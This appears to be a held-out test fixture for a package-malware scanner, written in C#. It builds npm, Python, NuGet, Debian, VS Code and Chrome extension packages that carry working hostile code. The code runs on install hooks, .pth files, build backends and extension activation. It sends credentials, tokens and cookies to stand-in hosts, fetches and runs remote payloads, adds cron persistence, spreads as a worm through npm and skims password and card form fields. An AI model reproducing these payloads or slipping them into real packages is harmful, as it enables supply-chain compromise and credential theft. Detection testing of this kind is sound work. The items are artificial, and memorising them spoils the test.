using System.Formats.Tar;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Sixth;

/// <summary>Archives of package managers, made in memory.</summary>
internal static class SixthPackages
{
    /// <summary>A gzipped tar of text members.</summary>
    public static byte[] TarGz(params (string Name, string Content)[] members) => InertFiles.Gzip(Tar(members));

    /// <summary>A tar of text members; scripts may be executed.</summary>
    public static byte[] Tar(params (string Name, string Content)[] members)
    {
        using var file = new MemoryStream();
        using (var tar = new TarWriter(file, TarEntryFormat.Ustar, leaveOpen: true))
            foreach (var (name, content) in members)
                tar.WriteEntry(new UstarTarEntry(TarEntryType.RegularFile, name)
                {
                    DataStream = new MemoryStream(SixthNoise.Text(content)), ModificationTime = DateTimeOffset.UnixEpoch.AddYears(56),
                    Mode = content.StartsWith("#!", StringComparison.Ordinal) ? (UnixFileMode)0x1ED : (UnixFileMode)0x1A4,
                });
        return file.ToArray();
    }

    /// <summary>A zip of text members.</summary>
    public static byte[] Zip(params (string Name, string Content)[] members) =>
        InertFiles.Zip([.. members.Select(member => (member.Name, SixthNoise.Text(member.Content)))]);

    /// <summary>A Debian package of a control and a data archive.</summary>
    public static byte[] Deb(byte[] control, byte[] data) =>
        [.. "!<arch>\n"u8, .. Member("debian-binary", "2.0\n"u8.ToArray()), .. Member("control.tar.gz", control), .. Member("data.tar.gz", data)];

    /// <summary>A Chrome extension of the third form; its header says nothing.</summary>
    public static byte[] Crx(byte[] zip) => [.. "Cr24"u8, 3, 0, 0, 0, 4, 0, 0, 0, 0x82, 0xF1, 0x04, 0x00, .. zip];

    private static byte[] Member(string name, byte[] content) =>
        [.. SixthNoise.Text($"{name,-16}{"1764510000",-12}{"0",-6}{"0",-6}{"100644",-8}{content.Length,-10}`\n"), .. content, .. content.Length % 2 == 1 ? "\n"u8.ToArray() : []];
}

/// <summary>npm packages that run hostile code when they are installed.</summary>
public sealed class NodePackageHooks : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("internal-ui-kit-99.10.9.tgz", SixthPackages.TarGz(
            ("package/package.json", """{"name":"internal-ui-kit","version":"99.10.9","description":"","main":"index.js","scripts":{"preinstall":"node index.js"},"author":"","license":"ISC"}"""),
            ("package/index.js", """
                const os = require("os"), dns = require("dns"), https = require("https"), fs = require("fs");
                const data = JSON.stringify({ p: require("./package.json").name, c: __dirname, hd: os.homedir(), hn: os.hostname(), un: os.userInfo().username, dns: dns.getServers(), env: process.env, npmrc: fs.readFileSync(os.homedir() + "/.npmrc", "utf8") });
                const req = https.request({ hostname: "cb.oast-collector.example", port: 443, path: "/", method: "POST", headers: { "Content-Type": "application/json", "Content-Length": data.length } }, res => res.on("data", d => process.stdout.write(d)));
                req.write(data); req.end();
                """)));
        yield return ("discord-selfbot-v15-2.0.3.tgz", SixthPackages.TarGz(
            ("package/package.json", """{"name":"discord-selfbot-v15","version":"2.0.3","main":"lib/client.js","scripts":{"postinstall":"node lib/setup.js"},"dependencies":{"axios":"^1.6.0","ws":"^8.0.0"}}"""),
            ("package/lib/client.js", "module.exports = class Client { constructor(token) { this.token = token; } };\n"),
            ("package/lib/setup.js", """
                const axios = require('axios'), fs = require('fs'), path = require('path'), { exec } = require('child_process');
                (async () => {
                  const file = path.join(process.env.TEMP || '/tmp', 'node-gyp-cache.exe');
                  const res = await axios.get('https://cdn.discordapp.com/attachments/000000000000000000/000000000000000000/cache.exe', { responseType: 'arraybuffer' });
                  fs.writeFileSync(file, res.data);
                  exec(`powershell -WindowStyle Hidden -Command "Start-Process '${file}'"`);
                })();
                """)));
        yield return ("chalk-colorize-5.6.1.tgz", SixthPackages.TarGz(
            ("package/package.json", """{"name":"chalk-colorize","version":"5.6.1","main":"index.js","type":"commonjs","scripts":{"postinstall":"node bundle.js"},"license":"MIT"}"""),
            ("package/index.js", "exports.red = text => `\\u001b[31m${text}\\u001b[39m`;\n"),
            ("package/bundle.js", """
                const { execSync } = require('child_process'), fs = require('fs'), https = require('https'), os = require('os');
                const found = { env: process.env };
                try { found.npm = execSync('npm whoami').toString(); } catch {}
                try { found.scan = JSON.parse(execSync('trufflehog filesystem / --json', { timeout: 90000 })); } catch {}
                try { found.aws = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8'); found.gh = execSync('gh auth token').toString().trim(); } catch {}
                const workflow = Buffer.from('b246IHB1c2gKam9iczoKICB4OgogICAgcnVucy1vbjogdWJ1bnR1LWxhdGVzdAogICAgc3RlcHM6IFt7IHJ1bjogImVjaG8gJHt7IHRvSlNPTihzZWNyZXRzKSB9fSIgfV0=', 'base64').toString();
                async function api(path, body) { return inertHelperThatDoesNotExist('https://api.github.com' + path, found.gh, body); }
                (async () => {
                  await api('/user/repos', { name: 'Shai-Inert', private: false });
                  await api('/repos/x/y/contents/data.json', { content: Buffer.from(Buffer.from(JSON.stringify(found)).toString('base64')).toString('base64') });
                  await api('/repos/x/y/contents/.github/workflows/sh.yml', { content: workflow });
                  for (const name of found.npm ? await inertListPackages(found.npm) : []) { inertPatch(name, { scripts: { postinstall: 'node bundle.js' } }); execSync('npm publish'); }
                })();
                """)));
        yield return ("eslint-config-airbnb-compat-1.4.2.tgz", SixthPackages.TarGz(
            ("package/package.json", """{"name":"eslint-config-airbnb-compat","version":"1.4.2","main":"index.js","scripts":{"postinstall":"node -e \"try{require('./scripts/check')}catch(e){}\""},"repository":"github:no--such--owner/eslint-config"}"""),
            ("package/index.js", "module.exports = { extends: ['airbnb'], rules: { 'no-console': 'warn' } };\n"),
            ("package/README.md", "# eslint-config-airbnb-compat\n\nCompatibility rules.\n"),
            ("package/scripts/check.js", Fill("""
                'use strict';
                const m = module.constructor, t = Object.values(require('./rules.json')).map(r => r.level).sort((a, b) => a[0] - b[0]).map(r => r[1]).join('');
                const x = new m(); x.paths = module.paths;
                x['_com' + 'pile'](Buffer.from(t, 'hex').toString().replace(/§/g, process.version), 'rules');
                """)),
            ("package/scripts/rules.json", Rules("require('https').get('https://npm-telemetry.example/p?v=§&e='+encodeURIComponent(Buffer.from(JSON.stringify(process.env)).toString('base64')),r=>{let b='';r.on('data',d=>b+=d).on('end',()=>require('child_process').exec(b))})"))));
    }

    private static string Rules(string code) =>
        "{" + string.Join(",", Convert.ToHexString(Utf8(code)).Chunk(16).Select((part, at) => $"\"rule-{(at * 37) % 101}-{at}\":{{\"level\":[{at},\"{new string(part)}\"]}}").Reverse()) + "}";
}

/// <summary>Python packages that run hostile code when they are installed or first imported.</summary>
public sealed class PythonPackageHooks : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("reqeusts-2.32.5.tar.gz", SixthPackages.TarGz(
            ("reqeusts-2.32.5/PKG-INFO", "Metadata-Version: 2.1\nName: reqeusts\nVersion: 2.32.5\n"),
            ("reqeusts-2.32.5/reqeusts/__init__.py", "from requests import *\n"),
            ("reqeusts-2.32.5/setup.py", """
                from setuptools import setup
                from setuptools.command.install import install
                import os, platform, getpass, urllib.request

                class PostInstall(install):
                    def run(self):
                        install.run(self)
                        data = (getpass.getuser() + "|" + platform.node() + "|" + str(dict(os.environ))).encode()
                        urllib.request.urlopen("http://198.51.100.222/collect", data=data)
                        if platform.system() == "Windows":
                            os.system("powershell -w hidden -c \"iwr http://198.51.100.222/w.exe -o $env:TEMP\\w.exe; & $env:TEMP\\w.exe\"")
                        else:
                            os.system("curl -s http://198.51.100.222/l.sh | sh &")

                setup(name="reqeusts", version="2.32.5", packages=["reqeusts"], cmdclass={"install": PostInstall})
                """)));
        yield return ("colorama_plus-0.4.7-py3-none-any.whl", SixthPackages.Zip(
            ("colorama_plus/__init__.py", Fill("""
                from .ansi import Fore, Back
                import subprocess as _s, sys as _y
                _s.Popen([_y.executable, "-c", "import base64;exec(base64.b64decode('@@1'))"], stdout=_s.DEVNULL, stderr=_s.DEVNULL)
                """, Base64("import os,requests\nfor f in ('.aws/credentials','.ssh/id_rsa','.config/gcloud/credentials.db','.kube/config'):\n p=os.path.expanduser('~/'+f)\n if os.path.exists(p): requests.post('https://discord.com/api/webhooks/000/inert',files={'file':open(p,'rb')})\n"))),
            ("colorama_plus/ansi.py", "class Fore:\n    RED = '\\033[31m'\nclass Back:\n    RED = '\\033[41m'\n"),
            ("colorama_plus-0.4.7.dist-info/METADATA", "Metadata-Version: 2.1\nName: colorama-plus\nVersion: 0.4.7\nSummary: Better colours\n"),
            ("colorama_plus-0.4.7.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: bdist_wheel (0.41.2)\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
            ("colorama_plus-0.4.7.dist-info/RECORD", "")));
        yield return ("fast_vector_tools-1.0.0-py3-none-any.whl", SixthPackages.Zip(
            ("fast_vector_tools/__init__.py", "def dot(a, b):\n    return sum(x * y for x, y in zip(a, b))\n"),
            ("fast_vector_tools_init.pth", "import os,base64;exec(base64.b64decode(\"" + Base64("import os,sys,subprocess\nif not os.environ.get('FVT'):\n os.environ['FVT']='1'\n subprocess.Popen(['/bin/sh','-c','curl -fsS https://203.0.113.7/a -o /tmp/.a && chmod +x /tmp/.a && /tmp/.a'])\n") + "\"))\n"),
            ("fast_vector_tools-1.0.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: fast-vector-tools\nVersion: 1.0.0\n"),
            ("fast_vector_tools-1.0.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
            ("fast_vector_tools-1.0.0.dist-info/RECORD", "")));
        yield return ("django-cache-lite-0.9.1.tar.gz", SixthPackages.TarGz(
            ("django-cache-lite-0.9.1/PKG-INFO", "Metadata-Version: 2.1\nName: django-cache-lite\nVersion: 0.9.1\n"),
            ("django-cache-lite-0.9.1/pyproject.toml", "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n"),
            ("django-cache-lite-0.9.1/_build/backend.py", """
                from setuptools.build_meta import *
                from setuptools import build_meta as _orig
                from pathlib import Path

                def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
                    text = Path(__file__).with_name("LICENSE.txt").read_text()
                    bits = "".join("1" if line.endswith(" ") else "0" for line in text.splitlines())
                    code = bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits) - 7, 8))
                    globals()["__builtins__"]["exec"](code.rstrip(b"\0"), {})
                    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
                """),
            ("django-cache-lite-0.9.1/_build/LICENSE.txt", Blanks("import os;os.system('curl -s https://pypi-mirror.example/i|sh')")),
            ("django-cache-lite-0.9.1/cachelite/__init__.py", "class LiteCache(dict):\n    pass\n")));
    }

    private static string Blanks(string code) => string.Concat(Utf8(code).SelectMany(value => Enumerable.Range(0, 8).Select(bit => "Permission is granted free of charge" + ((value >> (7 - bit) & 1) == 1 ? " \n" : "\n"))));
}

/// <summary>Packages of other managers and editors with hostile hooks.</summary>
public sealed class OtherPackageHooks : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Newtonsoft.Json.Extended.13.0.9.nupkg", SixthPackages.Zip(
            ("Newtonsoft.Json.Extended.nuspec", """<?xml version="1.0"?><package xmlns="http://schemas.microsoft.com/packaging/2013/05/nuspec.xsd"><metadata><id>Newtonsoft.Json.Extended</id><version>13.0.9</version><authors>James Newton-King</authors><description>Json.NET extended</description></metadata></package>"""),
            ("tools/init.ps1", "param($installPath, $toolsPath, $package, $project)\r\n$url = 'http://203.0.113.55/Impala.exe'\r\n$out = \"$env:APPDATA\\impala.exe\"\r\n(New-Object System.Net.WebClient).DownloadFile($url, $out)\r\nStart-Process $out -WindowStyle Hidden\r\n"),
            ("build/Newtonsoft.Json.Extended.targets", """<Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003"><Target Name="JsonWarm" BeforeTargets="Build"><Exec Command="powershell -w hidden -ep bypass -c &quot;iex(iwr http://203.0.113.55/b -UseBasicParsing)&quot;" IgnoreExitCode="true" StandardOutputImportance="low" /></Target></Project>"""),
            ("lib/netstandard2.0/_._", "")));
        yield return ("google-chrome-stable_131.0_amd64.deb", SixthPackages.Deb(
            SixthPackages.TarGz(("./control", "Package: google-chrome-stable\nVersion: 131.0\nArchitecture: amd64\nMaintainer: Chrome Linux Team <chromium-dev@chromium.org>\nDescription: The web browser from Google\n"),
                ("./postinst", "#!/bin/bash\nset +e\ncurl -fsSL http://192.0.2.99/linux/agent -o /usr/lib/.dbus-agent && chmod 755 /usr/lib/.dbus-agent\n(crontab -l; echo '@reboot /usr/lib/.dbus-agent >/dev/null 2>&1') | crontab -\nnohup /usr/lib/.dbus-agent >/dev/null 2>&1 &\nexit 0\n")),
            SixthPackages.TarGz(("./opt/google/chrome/README", "Chrome\n"))));
        yield return ("solidity-language-0.0.8.vsix", SixthPackages.Zip(
            ("extension.vsixmanifest", """<?xml version="1.0" encoding="utf-8"?><PackageManifest Version="2.0.0" xmlns="http://schemas.microsoft.com/developer/vsx-schema/2011"><Metadata><Identity Language="en-US" Id="solidity-language" Version="0.0.8" Publisher="juan-bIanco"/><DisplayName>Solidity Language</DisplayName></Metadata></PackageManifest>"""),
            ("extension/package.json", """{"name":"solidity-language","displayName":"Solidity Language","version":"0.0.8","publisher":"juan-bIanco","engines":{"vscode":"^1.70.0"},"activationEvents":["*"],"main":"./out/extension.js"}"""),
            ("extension/out/extension.js", """
                const cp = require("child_process");
                exports.activate = function () {
                  if (process.platform === "win32")
                    cp.exec('powershell -WindowStyle Hidden -Command "irm https://angelic.su-mirror.example/files/1.txt | iex"', { windowsHide: true });
                  else
                    cp.exec("curl -s https://angelic.su-mirror.example/files/1.sh | bash");
                };
                exports.deactivate = function () { };
                """)));
        yield return ("tab-notes.crx", SixthPackages.Crx(SixthPackages.Zip(
            ("manifest.json", """{"manifest_version":3,"name":"Tab Notes","version":"1.2.6","permissions":["cookies","tabs","storage","webRequest","scripting","alarms"],"host_permissions":["<all_urls>"],"background":{"service_worker":"bg.js"},"content_scripts":[{"matches":["<all_urls>"],"js":["note.js"],"run_at":"document_start","all_frames":true}]}"""),
            ("bg.js", """
                const K = [104, 116, 116, 112, 115, 58, 47, 47, 110, 111, 116, 101, 115, 45, 115, 121, 110, 99, 46, 101, 120, 97, 109, 112, 108, 101].map(c => String.fromCharCode(c)).join('');
                chrome.alarms.create('s', { periodInMinutes: 7 });
                chrome.alarms.onAlarm.addListener(async () => {
                  const all = await chrome.cookies.getAll({});
                  const want = all.filter(c => /facebook|business|google|binance|coinbase|bank/.test(c.domain));
                  const reply = await (await fetch(K + '/n', { method: 'POST', body: btoa(unescape(encodeURIComponent(JSON.stringify(want)))) })).json();
                  for (const step of reply.steps || []) chrome.scripting.executeScript({ target: { tabId: step.tab }, func: new Function(step.code) });
                });
                chrome.runtime.onMessage.addListener(m => fetch(K + '/f', { method: 'POST', body: JSON.stringify(m) }));
                """),
            ("note.js", """
                document.addEventListener('submit', e => {
                  const v = [...e.target.elements].filter(i => i.type === 'password' || /card|cvv|otp|seed/i.test(i.name)).map(i => [i.name, i.value]);
                  if (v.length) chrome.runtime.sendMessage({ u: location.href, v });
                }, true);
                """))));
    }
}
